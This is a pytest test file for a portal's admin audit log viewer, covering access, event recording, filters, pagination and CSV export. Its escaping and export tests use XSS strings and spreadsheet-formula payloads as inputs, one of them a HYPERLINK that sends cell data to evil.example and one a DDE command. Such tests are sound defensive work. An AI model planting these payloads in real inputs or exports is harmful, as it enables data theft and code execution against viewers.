"""The audit log viewer (File Maintenance › Audit log): who may see it, what it shows,
its filters, keyset pages and the CSV export, driven through the real routes."""
import csv
import io
import json
import re
from datetime import datetime, timedelta
from html.parser import HTMLParser
from urllib.parse import parse_qs, urlsplit

import pytest

from portal.models import AuditEvent
from portal.security.audit import record_event
from tests.conftest import log_in, post_form

WRONG = "wrong password here"
CSV_HEADER = ["id", "time_utc", "event", "actor", "subject", "details", "client_address", "user_agent"]
COLUMNS = ["time", "event", "actor", "subject", "details", "address", "browser"]


class AuditPage(HTMLParser):
    """What a reader sees on /audit/: the table rows (as dicts) and the pager links."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.rows: list[dict] = []
        self.empty_message = None
        self.links: dict[str, str | None] = {}
        self._in_tbody = False
        self._cells: list[str] | None = None
        self._text: list[str] | None = None
        self._li_disabled = False
        self._href = None
        self._link_text: list[str] | None = None
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "tbody":
            self._in_tbody = True
        elif self._in_tbody and tag == "tr":
            self._cells = []
        elif self._cells is not None and tag == "td":
            self._text = []
        elif tag == "li":
            self._li_disabled = "disabled" in (attrs.get("class") or "").split()
        elif tag == "a" and "page-link" in (attrs.get("class") or ""):
            self._href = None if self._li_disabled else attrs.get("href")
            self._link_text = []

    def handle_endtag(self, tag):
        if tag == "tbody":
            self._in_tbody = False
        elif tag == "td" and self._text is not None:
            self._cells.append("".join(self._text).strip())
            self._text = None
        elif tag == "tr" and self._cells is not None:
            if len(self._cells) == 1:
                self.empty_message = self._cells[0]
            else:
                self.rows.append(dict(zip(COLUMNS, self._cells, strict=True)))
            self._cells = None
        elif tag == "a" and self._link_text is not None:
            self.links["".join(self._link_text).strip()] = self._href
            self._link_text = None

    def handle_data(self, data):
        if self._text is not None:
            self._text.append(data)
        if self._link_text is not None:
            self._link_text.append(data)

    @property
    def seqs(self) -> list[int]:
        return [json.loads(row["details"])["seq"] for row in self.rows]


def view(client, url: str = "/audit/", **params) -> AuditPage:
    response = client.get(url, query_string=params or None)
    assert response.status_code == 200, response.status_code
    return AuditPage(response.get_data(as_text=True))


def export(client, **params) -> list[list[str]]:
    response = client.get("/audit/export.csv", query_string=params)
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


@pytest.fixture
def other_client(app):
    """A second browser, for the person whose actions the administrator then reads about."""
    return app.test_client()


# --- who may open it ---------------------------------------------------------------------

@pytest.mark.parametrize("url", ["/audit/", "/audit/export.csv"])
def test_anonymous_visitor_is_sent_to_login(client, url):
    response = client.get(url)
    assert response.status_code == 302
    assert response.headers["Location"].startswith("/login")


@pytest.mark.parametrize("level", [1, 4, 5, 8])
@pytest.mark.parametrize("url", ["/audit/", "/audit/export.csv"])
def test_staff_and_managers_are_refused(client, make_employee, level, url):
    make_employee(username="someone", status_level=level)
    assert log_in(client, "someone").status_code == 302
    response = client.get(url)
    assert response.status_code == 403
    assert "Sign-in succeeded" not in response.get_data(as_text=True)
    assert 'href="/audit/"' not in client.get("/").get_data(as_text=True)  # no menu entry either


def test_administrator_finds_it_in_the_menu(admin_client):
    assert 'href="/audit/"' in admin_client.get("/").get_data(as_text=True)
    page = view(admin_client)
    assert [row["event"] for row in page.rows] == ["Sign-in succeeded"]


# --- real actions become rows ------------------------------------------------------------

def test_sign_in_failure_success_and_logout_are_recorded_with_address_and_browser(
        admin_client, other_client, make_employee):
    make_employee(username="bob")
    log_in(other_client, "bob", WRONG, environ_base={"REMOTE_ADDR": "198.51.100.23"},
           headers={"User-Agent": "Mozilla/5.0 (X11; Linux) Firefox/140.0"})
    assert log_in(other_client, "bob", environ_base={"REMOTE_ADDR": "203.0.113.9"},
                  headers={"User-Agent": "Mozilla/5.0 (Macintosh) Safari/605.1"}).status_code == 302
    post_form(other_client, "/logout", {}, form_url="/")

    rows = view(admin_client, employee="bob").rows
    assert [(r["event"], r["actor"], r["subject"]) for r in rows] == [
        ("Signed out", "bob", "bob"),
        ("Sign-in succeeded", "bob", "bob"),
        ("Sign-in failed", "", "bob"),
    ]
    failed, succeeded = rows[2], rows[1]
    assert (failed["address"], failed["browser"]) == ("198.51.100.23", "Mozilla/5.0 (X11; Linux) Firefox/140.0")
    assert json.loads(failed["details"]) == {"reason": "wrong password"}
    assert (succeeded["address"], succeeded["browser"]) == ("203.0.113.9", "Mozilla/5.0 (Macintosh) Safari/605.1")


def test_failed_sign_in_for_unknown_username_keeps_a_fingerprint_not_the_text(admin_client, other_client):
    """People type their password into the username field: the log keeps only a keyed digest."""
    log_in(other_client, "mallory", WRONG, environ_base={"REMOTE_ADDR": "192.0.2.66"})
    log_in(other_client, "Mallory ", WRONG)
    log_in(other_client, "trudy", WRONG)
    rows = view(admin_client, event="signin.failed").rows
    assert (rows[2]["actor"], rows[2]["subject"], rows[2]["address"]) == ("", "", "192.0.2.66")
    details = [json.loads(r["details"]) for r in rows]
    assert all(d["reason"] == "unknown user" and "mallory" not in str(d).lower() for d in details)
    assert details[2]["username_fingerprint"] == details[1]["username_fingerprint"]  # the same name again
    assert details[0]["username_fingerprint"] != details[1]["username_fingerprint"]


def test_tenth_failure_locks_the_account_and_is_recorded_once(admin_client, other_client, make_employee):
    make_employee(username="carol")
    for _ in range(9):
        log_in(other_client, "carol", WRONG)
    assert view(admin_client, event="account.locked").empty_message == "No event matches."
    log_in(other_client, "carol", WRONG)
    [row] = view(admin_client, event="account.locked").rows
    assert (row["event"], row["subject"]) == ("Account locked", "carol")
    assert json.loads(row["details"])["lock_number"] == 1
    assert len(view(admin_client, employee="carol", event="signin.failed").rows) == 10


def test_employee_created_through_employee_maintenance_is_recorded(admin_client):
    response = post_form(admin_client, "/employees/new", {
        "username": "newbie", "full_name": "Nora Newbie", "email": "nora@example.com",
        "status_level": "2", "active": "y",
        "password": "a long and unusual pass", "confirm": "a long and unusual pass",
    })
    assert response.status_code == 302
    [row] = view(admin_client, event="employee.created").rows
    assert (row["event"], row["actor"], row["subject"]) == ("Employee created", "admin", "newbie")
    details = json.loads(row["details"])
    assert details["full_name"] == "Nora Newbie" and details["status_level"] == 2
    assert "pass" not in row["details"]  # never the password, not even its hash


def test_rows_are_escaped_so_an_attacker_cannot_inject_markup(admin_client, other_client):
    log_in(other_client, "<script>alert(1)</script>", WRONG,
           headers={"User-Agent": "<img src=x onerror=alert(2)>"})
    html = admin_client.get("/audit/").get_data(as_text=True)
    assert "<script>alert(1)" not in html
    assert "<img src=x" not in html
    row = AuditPage(html).rows[0]
    assert row["browser"] == "<img src=x onerror=alert(2)>"


# --- filters -----------------------------------------------------------------------------

def test_employee_filter_matches_actor_or_subject(admin_client, app, make_employee):
    post_form(admin_client, "/employees/new", {
        "username": "bob", "full_name": "Bob Builder", "status_level": "1", "active": "y",
        "password": "a long and unusual pass", "confirm": "a long and unusual pass",
    })
    make_employee(username="carol")
    assert log_in(app.test_client(), "bob", "a long and unusual pass").status_code == 302
    assert log_in(app.test_client(), "carol").status_code == 302

    def seen(**filters):
        return [(r["event"], r["actor"], r["subject"]) for r in view(admin_client, **filters).rows]

    assert seen(employee="admin") == [("Employee created", "admin", "bob"), ("Sign-in succeeded", "admin", "admin")]
    assert seen(employee="BOB") == [("Sign-in succeeded", "bob", "bob"), ("Employee created", "admin", "bob")]
    assert seen(employee="bob", event="signin.succeeded") == [("Sign-in succeeded", "bob", "bob")]
    assert seen(event="signin.succeeded") == [
        ("Sign-in succeeded", "carol", "carol"), ("Sign-in succeeded", "bob", "bob"),
        ("Sign-in succeeded", "admin", "admin")]


def test_unknown_employee_shows_no_rows_not_everything(admin_client, other_client):
    log_in(other_client, "ghost", WRONG)  # an attempt with the name exists, the employee does not
    assert len(view(admin_client).rows) == 2
    page = view(admin_client, employee="ghost")
    assert page.rows == [] and page.empty_message == "No event matches."
    assert export(admin_client, employee="ghost") == [CSV_HEADER]


def test_date_range_includes_whole_days(app, admin, frozen_clock, make_employee):
    make_employee(username="dora")
    for moment in (datetime(2024, 3, 1, 23, 59, 59), datetime(2024, 3, 2, 0, 0, 0),
                   datetime(2024, 3, 2, 23, 59, 59), datetime(2024, 3, 3, 0, 0, 0)):
        frozen_clock.freeze(moment)
        assert log_in(app.test_client(), "dora").status_code == 302
    frozen_clock.freeze(datetime(2024, 3, 5, 9, 0, 0))
    client = app.test_client()
    assert log_in(client, "admin").status_code == 302

    def times(**filters):
        return [r["time"] for r in view(client, employee="dora", **filters).rows]

    assert times(date_from="2024-03-02", date_to="2024-03-02") == ["2024-03-02 23:59:59", "2024-03-02 00:00:00"]
    assert times(date_from="2024-03-03") == ["2024-03-03 00:00:00"]
    assert times(date_to="2024-03-01") == ["2024-03-01 23:59:59"]
    assert times(date_from="2024-03-04") == []
    assert [r["time"] for r in view(client, date_from="2024-03-05").rows] == ["2024-03-05 09:00:00"]


def test_end_date_before_start_date_is_a_field_error_and_lists_nothing(admin_client):
    response = admin_client.get("/audit/?date_from=2024-03-05&date_to=2024-03-01")
    html = response.get_data(as_text=True)
    assert response.status_code == 200
    error = '<div class="invalid-feedback d-block" id="date_to-errors"><div>The end date is before the start date.'
    assert error in html
    assert re.search(r'<input[^>]*aria-invalid="true"[^>]*id="date_to"|<input[^>]*id="date_to"[^>]*aria-invalid="true"',
                     html)
    # the page does not pass the whole log off as the filtered result
    assert AuditPage(html).rows == []
    assert admin_client.get("/audit/export.csv?date_from=2024-03-05&date_to=2024-03-01").status_code == 400


@pytest.mark.parametrize("params", [
    {"event": "no.such.event"},
    {"employee": "x" * 65},
    {"date_from": "yesterday"},
])
def test_an_invalid_filter_never_widens_to_the_whole_log(admin_client, params):
    response = admin_client.get("/audit/", query_string=params)
    assert response.status_code == 200
    assert 'class="invalid-feedback d-block"' in response.get_data(as_text=True)
    assert AuditPage(response.get_data(as_text=True)).rows == []
    assert admin_client.get("/audit/export.csv", query_string=params).status_code == 400


# --- keyset pages ------------------------------------------------------------------------

@pytest.fixture
def many_events(app, admin, frozen_clock):
    """120 'settings.changed' rows (seq 0..119) interleaved with 120 'password.changed' rows."""
    frozen_clock.freeze(datetime(2024, 5, 6, 10, 0, 0))
    for seq in range(120):
        record_event("settings.changed", actor=admin, details={"seq": seq})
        record_event("password.changed", actor=admin, subject=admin, details={"seq": seq})
    from portal.extensions import db

    db.session.commit()
    client = app.test_client()
    assert log_in(client, "admin").status_code == 302
    return client


def _follow(client, href: str) -> AuditPage:
    assert href and href != "#"
    return view(client, href)


def test_older_and_newer_walk_the_filtered_log_without_overlap(many_events):
    client = many_events
    filters = {"employee": "admin", "event": "settings.changed", "date_from": "2024-05-06", "date_to": "2024-05-06"}
    first = view(client, **filters)
    assert first.seqs == list(range(119, 69, -1))  # the newest 50
    assert first.links["Newer"] is None

    older_href = first.links["Older"]
    kept = parse_qs(urlsplit(older_href).query)
    assert {k: kept[k] for k in filters} == {k: [v] for k, v in filters.items()}

    second = _follow(client, older_href)
    assert second.seqs == list(range(69, 19, -1))
    assert {r["event"] for r in second.rows} == {"Settings changed"}  # the filter survived the link
    third = _follow(client, second.links["Older"])
    assert third.seqs == list(range(19, -1, -1))
    assert third.links["Older"] is None

    back = _follow(client, third.links["Newer"])
    assert back.seqs == second.seqs
    assert _follow(client, back.links["Newer"]).seqs == first.seqs
    assert parse_qs(urlsplit(back.links["Newer"]).query)["event"] == ["settings.changed"]


def test_unfiltered_pages_hold_fifty_newest_first(many_events):
    client = many_events
    first = view(client)
    assert len(first.rows) == 50
    assert first.rows[0]["event"] == "Sign-in succeeded"  # the administrator's own sign-in is the newest
    second = _follow(client, first.links["Older"])
    assert len(second.rows) == 50
    ids_first = [(r["event"], r["details"]) for r in first.rows]
    ids_second = [(r["event"], r["details"]) for r in second.rows]
    assert not set(ids_first) & set(ids_second)
    assert _follow(client, second.links["Newer"]).rows == first.rows


def test_pages_follow_the_time_column_even_when_rows_were_written_out_of_order(app, admin, frozen_clock):
    """Workers' clocks and transactions do not write rows in exact time order; the list
    is ordered by time, as its Time column reads, and the pages still cover every row once."""
    from portal.extensions import db

    base = datetime(2024, 2, 1, 12, 0, 0)
    minutes = [(seq * 37) % 120 for seq in range(120)]  # every minute 0..119 once, shuffled
    for seq, minute in enumerate(minutes):
        frozen_clock.freeze(base + timedelta(minutes=minute))
        record_event("settings.changed", actor=admin, details={"seq": seq})
        db.session.flush()  # the row takes its time when written
    db.session.commit()
    frozen_clock.freeze(base + timedelta(days=1))
    client = app.test_client()
    log_in(client, "admin")

    seen, page = [], view(client, event="settings.changed")
    while True:
        seen += page.rows
        if page.links["Older"] is None:
            break
        page = _follow(client, page.links["Older"])
    times = [row["time"] for row in seen]
    assert len(seen) == 120 and times == sorted(times, reverse=True) and len(set(times)) == 120


@pytest.mark.parametrize("params", [
    {"before": "abc"}, {"after": "abc"}, {"before": ""}, {"after": "1e3"},
    {"before": "99999999999999999999"}, {"after": "-99999999999999999999"},
])
def test_nonsense_page_markers_are_ignored(many_events, params):
    page = view(many_events, **params)
    assert len(page.rows) == 50
    assert page.rows[0]["event"] == "Sign-in succeeded"


def test_far_dates_do_not_break_the_page(admin_client):
    assert len(view(admin_client, date_from="0001-01-01", date_to="9999-12-31").rows) == 1
    assert len(export(admin_client, date_to="9999-12-31")) == 2


# --- CSV export --------------------------------------------------------------------------

def test_csv_export_has_header_and_one_row_per_event_as_an_attachment(client, admin, other_client, make_employee,
                                                                      frozen_clock):
    frozen_clock.freeze(datetime(2024, 7, 1, 8, 30, 15))
    make_employee(username="erin")
    log_in(other_client, "erin", WRONG, environ_base={"REMOTE_ADDR": "198.51.100.7"},
           headers={"User-Agent": "Mozilla/5.0 Test"})
    log_in(other_client, "erin")
    frozen_clock.advance(timedelta(minutes=5))
    log_in(client, "admin")

    response = client.get("/audit/export.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and disposition.endswith('.csv"')
    table = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert table[0] == CSV_HEADER
    from portal.extensions import db

    assert len(table) - 1 == db.session.scalar(db.select(db.func.count(AuditEvent.id))) == 3
    rows = [dict(zip(CSV_HEADER, line, strict=True)) for line in table[1:]]
    assert [(r["event"], r["subject"]) for r in rows] == [
        ("signin.succeeded", "admin"), ("signin.succeeded", "erin"), ("signin.failed", "erin")]
    failed = rows[2]
    assert (failed["subject"], failed["client_address"], failed["user_agent"]) == (
        "erin", "198.51.100.7", "Mozilla/5.0 Test")
    assert json.loads(failed["details"]) == {"reason": "wrong password"}
    assert failed["time_utc"] == "2024-07-01T08:30:15"


def test_csv_export_applies_the_filters(admin_client, other_client, make_employee):
    make_employee(username="fred")
    log_in(other_client, "fred", WRONG)
    log_in(other_client, "fred")
    table = export(admin_client, employee="fred", event="signin.failed")
    assert table[0] == CSV_HEADER
    assert [(line[2], line[4]) for line in table[1:]] == [("signin.failed", "fred")]
    assert len(export(admin_client, event="signin.succeeded")) == 3  # header, admin, fred


def test_export_link_carries_the_filters(admin_client):
    html = admin_client.get("/audit/?employee=admin&event=signin.succeeded").get_data(as_text=True)
    assert 'href="/audit/export.csv?employee=admin&amp;event=signin.succeeded"' in html


def test_csv_export_neutralises_spreadsheet_formulas(admin_client, other_client, make_employee):
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
    log_in(other_client, formula, WRONG, headers={"User-Agent": "=cmd|' /C calc'!A0"})
    make_employee(username="-2")
    log_in(other_client, "@sum", WRONG, headers={"User-Agent": "+1+1"})
    log_in(other_client, "-2", WRONG, headers={"User-Agent": "@SUM(1)"})

    table = export(admin_client, event="signin.failed")
    assert len(table) == 4
    for line in table[1:]:
        for cell in line:
            assert cell[:1] not in ("=", "+", "-", "@"), f"formula-like cell {cell!r}"
    agents = [line[7] for line in table[1:]]
    assert agents == ["'@SUM(1)", "'+1+1", "'=cmd|' /C calc'!A0"]
    assert table[1][4] == "'-2"  # the subject's username
    assert "HYPERLINK" not in "".join(table[3])  # an unknown username is not kept, only its fingerprint
